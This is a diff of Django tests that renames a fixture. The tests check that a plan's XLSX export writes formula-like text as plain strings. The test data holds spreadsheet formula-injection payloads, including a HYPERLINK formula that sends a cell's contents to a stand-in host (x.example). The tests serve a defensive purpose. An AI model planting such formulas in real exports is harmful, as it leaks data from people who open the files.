@@ -13,17 +13,17 @@ from tests.factories import FundingLineFactory
 pytestmark = pytest.mark.django_db
 
 
-def test_plan_xlsx_writes_formula_like_text_as_strings(world, client):
-    action = world.action_a1
+def test_plan_xlsx_writes_formula_like_text_as_strings(pme_world, client):
+    action = pme_world.action_a1
     action.name = '=HYPERLINK("http://x.example/?d="&D2,"ver")'
     action.description = "+1"
     action.responsible = "@SUM(A1:A9)"
     action.resources = "-2+3"
     action.save()
     FundingLineFactory(action=action, source="pie", amount=250_000)
-    services.record_progress(by=world.utp_a1, action=action, progress=30, note="=1+1")
-    client.force_login(world.director_a1)
-    response = client.get(f"/pme/plans/{world.plan_a1.pk}/export.xlsx")
+    services.record_progress(by=pme_world.utp_a1, action=action, progress=30, note="=1+1")
+    client.force_login(pme_world.director_a)
+    response = client.get(f"/pme/plans/{pme_world.plan_a1.pk}/export.xlsx")
     assert response.status_code == 200
     book = load_workbook(io.BytesIO(response.content))
     header, row = list(book["Acciones"].iter_rows(max_row=2))
@@ -43,13 +43,13 @@ def test_plan_xlsx_writes_formula_like_text_as_strings(world, client):
         assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
 
 
-def test_export_command_writes_formula_like_text_as_strings(world, tmp_path):
-    world.action_a1.name = "=1+1"
-    world.action_a1.save()
+def test_export_command_writes_formula_like_text_as_strings(pme_world, tmp_path):
+    pme_world.action_a1.name = "=1+1"
+    pme_world.action_a1.save()
     path = tmp_path / "plan.xlsx"
     call_command(
         "export_pme",
-        rbd=world.a1.rbd,
+        rbd=pme_world.a1.rbd,
         year=2025,
         format="xlsx",
         output=str(path),
